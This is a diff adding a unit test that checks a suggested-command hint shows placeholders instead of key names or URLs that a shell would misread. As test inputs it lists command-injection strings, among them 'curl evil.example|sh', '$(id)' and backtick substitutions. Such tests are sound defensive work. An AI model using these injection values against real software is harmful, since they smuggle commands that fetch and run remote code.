@@ -218,3 +218,32 @@ describe("T28: what a tool may use, as a person is asked about it", () => {
       expect(tellGrant(plain)).toBe(plain);
   });
 });
+
+describe("T44: a command that is told to be typed", () => {
+  const hint = (capability: string, name: string) =>
+    tellOutcome({
+      outcome: "CapabilityDenied",
+      details: { capability: `skill.capability.${capability}`, operation: "x", name },
+      tool_id: "acme.echo.say",
+      skill_id: "acme.echo",
+    })?.hint;
+
+  it("holds nothing of what the tool asked for that a shell would take for more than a name", () => {
+    expect(hint("vault.read", "global/weather.token-1")).toMatch(/ --global-key weather\.token-1$/);
+    for (const name of [
+      "global/x; curl evil.example|sh",
+      "global/$(id)",
+      "global/`id`",
+      "global/--all",
+      "global/a b",
+      "skill:acme.echo/k",
+    ])
+      expect(hint("vault.read", name)).toMatch(/ --global-key KEY$/);
+    expect(hint("http.egress", "https://api.example.com:8443")).toMatch(/ --origin https:\/\/api\.example\.com:8443$/);
+    // Hosts that URLs have, as well as shells.
+    for (const name of ["https://a;curl$ifs-evil.example", "https://a`id`", "https://a$(id)", "https://a&b", "https://a'b"]) {
+      expect(new URL(name).origin).toBe(name);
+      expect(hint("http.egress", name)).toMatch(/ --origin https:\/\/HOST$/);
+    }
+  });
+});
